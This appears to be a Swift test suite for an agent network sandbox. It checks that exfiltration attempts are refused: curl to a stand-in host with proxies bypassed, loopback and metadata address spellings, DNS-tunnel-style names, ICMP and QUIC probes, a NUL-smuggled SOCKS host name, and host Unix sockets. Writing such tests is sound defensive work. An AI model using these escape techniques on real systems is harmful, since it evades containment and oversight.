import BaileyTestSupport
import Glibc
import Testing

@Suite("No byte leaves except through the gate", .serialized)
struct NetworkEscapes {
  let walls: Walls
  init() throws { walls = try Walls() }

  @Test("A host that no rule allows is refused, and the agent can read why")
  func refusedHost() throws {
    let result = try walls.run(
      "curl -sS -m 20 http://evil.example/ ; env -u http_proxy -u HTTP_PROXY curl -sS --noproxy '*' -m 20 http://evil.example/"
    )
    #expect(result.output.components(of: "nothing-allows") >= 2, "\(result)")
  }

  @Test("TLS to a host that no rule allows does not connect, proxy variables or not")
  func refusedTLS() throws {
    let result = try walls.run(
      "curl -sS -m 20 https://evil.example/ && echo REACHED; curl --noproxy '*' -sS -m 20 https://evil.example/ && echo REACHED; true"
    )
    #expect(!result.output.contains("REACHED"))
  }

  @Test(
    "Every spelling of a host's own address is refused",
    arguments: [
      "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:127.0.0.1]", "0.0.0.0", "169.254.169.254",
      "10.0.0.1", "[fd00:ec2::254]", "[64:ff9b::7f00:1]", "192.168.0.1",
    ])
  func addressSpellings(address: String) throws {
    let result = try walls.run(
      "curl -sS -m 10 -x http://127.0.0.1:3128 http://\(address):80/ -o /dev/null -w '%{http_code}'; true")
    #expect(!result.output.contains("200"), "\(result)")
  }

  @Test("The host's loopback is not the sandbox's")
  func hostLoopback() throws {
    let result = try walls.python(
      """
      import socket
      s = socket.socket(); s.settimeout(3)
      try:
          s.connect(('127.0.0.1', 22)); print('REACHED')
      except OSError as e:
          print('refused', e.errno)
      """)
    #expect(result.output.hasPrefix("refused"), "\(result)")
  }

  @Test("UDP other than DNS goes nowhere")
  func datagrams() throws {
    let result = try walls.python(
      """
      import socket
      s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
      s.connect(('203.0.113.7', 443))
      try:
          s.send(b'quic'); print('answer', s.recv(10))
      except OSError as e:
          print('refused')
      """)
    #expect(result.output == "refused\n", "\(result)")
  }

  @Test("A name is answered inside and asked nowhere")
  func syntheticNames() throws {
    let result = try walls.python(
      """
      import socket
      print(socket.gethostbyname('c2VjcmV0.tunnel.evil.example'))
      """)
    #expect(result.output.hasPrefix("198.18.") || result.output.hasPrefix("198.19."), "\(result)")
  }

  @Test(
    "IPv6 is captured as IPv4 is: a literal is refused by decision, DNS is answered inside, other datagrams go nowhere")
  func literalIPv6() throws {
    let result = try walls.run("curl -sS -g -m 20 --noproxy '*' 'http://[2606:4700:4700::1111]/'")
    #expect(result.output.contains("address-not-named"), "\(result)")
    #expect(try walls.bailey(["log", "--denied"]).output.contains("2606:4700:4700::1111"))
    let inside = try walls.python(
      """
      import socket, struct
      name = b''.join(bytes([len(l)]) + l for l in b'only6.evil.example'.split(b'.')) + b'\\0'
      s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(5)
      for kind in (28, 1):
          s.sendto(b'\\x12\\x34\\1\\0\\0\\1' + b'\\0' * 6 + name + struct.pack('>HH', kind, 1), ('2606:4700:4700::1111', 53))
          answer = s.recv(512); print(answer[7], answer[-4] if answer[7] else '-')
      print(socket.gethostbyname('only6.evil.example').startswith('198.1'))
      u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.settimeout(2)
      try:
          u.connect(('2606:4700:4700::1111', 443)); u.send(b'quic'); print('answer', u.recv(10))
      except OSError as e:
          print('refused')
      """)
    #expect(inside.output == "0 -\n1 198\nTrue\nrefused\n", "\(inside)")
  }

  @Test("ICMP cannot be sent, raw or by a datagram socket")
  func icmp() throws {
    let result = try walls.python(
      """
      import socket
      for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
          for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58)):
              try:
                  s = socket.socket(family, kind, protocol); s.settimeout(2)
                  s.connect(('203.0.113.7', 0) if family == socket.AF_INET else ('2606:4700:4700::1111', 0))
                  s.send(b'\\x08\\0\\0\\0\\0\\0\\0\\0'); s.recv(10); print('REACHED')
              except OSError as e:
                  print('refused')
      """)
    #expect(result.output == String(repeating: "refused\n", count: 4), "\(result)")
  }

  @Test("A host name with a NUL in a SOCKS request is refused")
  func nulInName() throws {
    let result = try walls.python(
      """
      import socket
      s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(10)
      s.sendall(b'\\x05\\x01\\x00'); print(s.recv(2).hex())
      name = b'evil.example\\x00.allowed.example'
      s.sendall(b'\\x05\\x01\\x00\\x03' + bytes([len(name)]) + name + b'\\x01\\xbb')
      print('reply', s.recv(10)[1:2].hex())
      """, ["--allow-host", "allowed.example"])
    #expect(!result.output.contains("reply 00"), "\(result)")
  }

  @Test("A host's Unix socket is not reachable, by path or abstract name")
  func unixSockets() throws {
    let program = """
      import socket, sys
      for name in sys.argv[1:]:
          s = socket.socket(socket.AF_UNIX)
          try:
              s.connect(name if not name.startswith('@') else '\\0' + name[1:]); print('REACHED', name)
          except OSError as e:
              print('refused', e.errno)
      """
    let own = ["baileyd.sock", "policy.sock"].map { "run/bailey/" + $0 }
    let names = own.map { walls.scratch.path + "/" + $0 } + ["/run/dbus/system_bus_socket", "@/tmp/.X11-unix/X0"]
    let result = try walls.bailey(["run", "-q", "--", "/usr/bin/python3", "-c", program] + names)
    #expect(!result.output.contains("REACHED"), "\(result)")
    #expect(result.output.components(of: "refused") == 4)
    #expect(own.allSatisfy { walls.scratch.exists($0) })
  }
}

extension String {
  /// How often a piece occurs.
  func components(of piece: String) -> Int {
    var count = 0
    var rest = self[...]
    while let range = rest.firstRange(of: piece) {
      count += 1
      rest = rest[range.upperBound...]
    }
    return count
  }
}

@Suite("Doors that the person opens", .serialized)
struct OpenedDoors {
  let walls: Walls
  init() throws { walls = try Walls() }

  @Test("A published port of the host reaches the server inside, and nothing once the session is over")
  func published() throws {
    let run = try walls.start(
      [
        "run", "-q", "--publish", "18997", "--", "/usr/bin/python3", "-m", "http.server", "18997", "--bind",
        "127.0.0.1",
      ])
    var answer = ""
    for _ in 0..<60 where !answer.contains("README") {
      answer = try Tool("/usr/bin/curl").run(["-sS", "-m", "3", "http://127.0.0.1:18997/"]).output
      if !answer.contains("README") { usleep(100_000) }
    }
    #expect(answer.contains("README"), "\(answer)")
    #expect(try walls.bailey(["kill", "--all"]).status == 0)
    var status: Int32 = 0
    walls.reap(run, &status)
    #expect(try Tool("/usr/bin/curl").run(["-sS", "-m", "3", "http://127.0.0.1:18997/"]).status != 0)
  }

  @Test("A service of the host is reached only when its port is named")
  func hostPort() throws {
    let server = try Tool("/usr/bin/python3", directory: walls.home).startSilently(
      ["-m", "http.server", "18996", "--bind", "127.0.0.1"])
    defer {
      kill(server, SIGKILL)
      var status: Int32 = 0
      walls.reap(server, &status)
    }
    usleep(500_000)
    let fetch = "curl -sS -m 5 --noproxy '*' -o /dev/null -w '%{http_code}' http://127.0.0.1:18996/"
    #expect(try walls.run(fetch, ["--allow-host-port", "18996"]).output == "200")
    let named = "curl -sS -m 5 -o /dev/null -w '%{http_code}' http://localhost:18996/"
    #expect(try walls.run(named, ["--allow-host-port", "18996"]).output == "200")
    #expect(try walls.run(named).output != "200")
    let proxied = "curl -sS -m 5 --noproxy '' -o /dev/null -w '%{http_code}' http://localhost:18996/"
    #expect(try walls.run(proxied).output == "403")
    #expect(try walls.run(fetch).output == "000")
  }
}
